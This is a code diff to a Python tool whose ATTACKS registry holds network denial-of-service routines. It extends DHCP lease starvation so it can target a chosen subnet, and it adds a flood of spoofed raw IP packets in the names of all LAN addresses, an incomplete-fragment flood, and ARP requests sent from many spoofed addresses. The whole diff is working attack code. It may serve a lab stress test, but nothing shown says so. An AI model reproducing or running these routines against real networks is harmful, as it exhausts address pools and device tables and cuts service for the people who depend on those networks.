@@ -84,24 +84,33 @@ def flows(target: str, seconds: float, count: int) -> None:
             _tell(sent=sent)
 
 
-def leases(target: str, seconds: float, count: int) -> None:
-    """Ask for `count` leases, each for another Ethernet address, and take what is offered (RFC 2131)."""
-    taken: set[bytes] = set()
-    end, told, number = time.monotonic() + seconds, False, 0
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
-        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
-        client.bind(("0.0.0.0", 68))
-        client.settimeout(0)
-        while time.monotonic() < end:
-            if number < count:
-                client.sendto(_dhcp(number, b"\x35\1\1"), ("255.255.255.255", 67))
-                number += 1
-            _take(client, target, taken)
-            if not told and time.monotonic() > end - seconds / 2:
-                _tell(taken=len(taken))
-                told = True
+def _leases(*, of: bool) -> Attack:
+    """Ask for `count` leases, each for another Ethernet address, and take what is offered (RFC 2131).
+
+    `of` a network that the target is in, by link selection (RFC 3527) and subnet selection (RFC 3011).
+    """
+
+    def attack(target: str, seconds: float, count: int) -> None:
+        network = socket.inet_aton(target)
+        wish = b"\x52\6\5\4" + network + b"\x76\4" + network if of else b""
+        taken: set[bytes] = set()
+        end, told, number = time.monotonic() + seconds, False, 0
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+            client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+            client.bind(("0.0.0.0", 68))
+            client.settimeout(0)
+            while time.monotonic() < end:
+                if number < count:
+                    client.sendto(_dhcp(number, b"\x35\1\1" + wish), ("255.255.255.255", 67))
+                    number += 1
+                _take(client, wish, taken)
+                if not told and time.monotonic() > end - seconds / 2:
+                    _tell(taken=len(taken))
+                    told = True
+
+    return attack
 
 
 def _dhcp(number: int, options: bytes) -> bytes:
@@ -110,17 +119,72 @@ def _dhcp(number: int, options: bytes) -> bytes:
     return header + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + options + b"\xff"
 
 
-def _take(client: socket.socket, server: str, taken: set[bytes]) -> None:
+def _take(client: socket.socket, wish: bytes, taken: set[bytes]) -> None:
     time.sleep(0.005)
     with suppress(BlockingIOError):
         while True:
             said = client.recv(1500)
-            number, offered = struct.unpack_from("!I", said, 4)[0], said[16:20]
+            number, offered, server = struct.unpack_from("!I", said, 4)[0], said[16:20], said[243:249]
             if said[242] == 2:  # an offer: ask for it
-                asked = b"\x35\1\3\x32\4" + offered + b"\x36\4" + socket.inet_aton(server)
-                client.sendto(_dhcp(number, asked), ("255.255.255.255", 67))
+                client.sendto(_dhcp(number, b"\x35\1\3\x32\4" + offered + server + wish), ("255.255.255.255", 67))
             elif said[242] == 5:
                 taken.add(offered)
+
+
+def _own_prefix() -> str:
+    """The first three octets of this PC's address."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+        asking.connect(("10.255.0.40", 9))
+        return str(asking.getsockname()[0]).rpartition(".")[0]
+
+
+def _packet(source: str, target: str, protocol: int, body: bytes = b"", *, number: int = 0, flags: int = 0) -> bytes:
+    """An IPv4 packet (RFC 791); the kernel adds its length and checksum."""
+    ends = socket.inet_aton(source) + socket.inet_aton(target)
+    return struct.pack("!BBHHHBBH", 0x45, 0, 0, number, flags, 64, protocol, 0) + ends + body
+
+
+def portless(target: str, seconds: float, count: int) -> None:
+    """Begin `count` flows of protocols without ports, in the names of all the LAN's addresses, 1,500 a second."""
+    prefix, inside = _own_prefix(), target.rpartition(".")[0]
+    began, end, sent = time.monotonic(), time.monotonic() + seconds, 0
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
+        while time.monotonic() < end:
+            while sent < min(count, (time.monotonic() - began) * 1500):
+                source, to = f"{prefix}.{10 + sent % 200}", f"{inside}.{1 + sent // 200 % 250}"
+                wire.sendto(_packet(source, to, 253), (to, 0))  # for experiments (RFC 3692)
+                sent += 1
+                if sent == count:
+                    _tell(sent=sent)
+            time.sleep(0.01)
+
+
+def fragments(target: str, seconds: float, count: int) -> None:
+    """Send the first pieces of `count` datagrams a second, and never the rest."""
+    began, end, sent = time.monotonic(), time.monotonic() + seconds, 0
+    source, more = f"{_own_prefix()}.99", 0x2000
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
+        while time.monotonic() < end:
+            while sent < (time.monotonic() - began) * count:
+                sent += 1
+                piece = _packet(source, target, socket.IPPROTO_UDP, bytes(1400), number=1 + sent % 65_000, flags=more)
+                wire.sendto(piece, (target, 0))
+                if sent == count:
+                    _tell(sent=sent)
+            time.sleep(0.01)
+
+
+def neighbours(target: str, seconds: float, count: int) -> None:
+    """Ask for an address by ARP (`INTERFACE,ADDRESS`) in the names of `count` others, from 198.18.0.0 (RFC 2544) on."""
+    del seconds
+    interface, _, address = target.partition(",")
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
+        wire.bind((interface, 0))
+        mac = wire.getsockname()[4]
+        for number in range(count):
+            asking = mac + struct.pack("!I", 0xC6120000 + number) + bytes(6) + socket.inet_aton(address)
+            wire.send(b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + asking)
+    _tell(sent=count)
 
 
 ATTACKS: dict[str, Attack] = {
@@ -128,7 +192,11 @@ ATTACKS: dict[str, Attack] = {
     "slow-dns": _slow(53, b"\0\x40\0"),
     "names": names,
     "flows": flows,
-    "leases": leases,
+    "leases": _leases(of=False),
+    "leases-of": _leases(of=True),
+    "portless": portless,
+    "fragments": fragments,
+    "neighbours": neighbours,
 }
 
 if __name__ == "__main__":
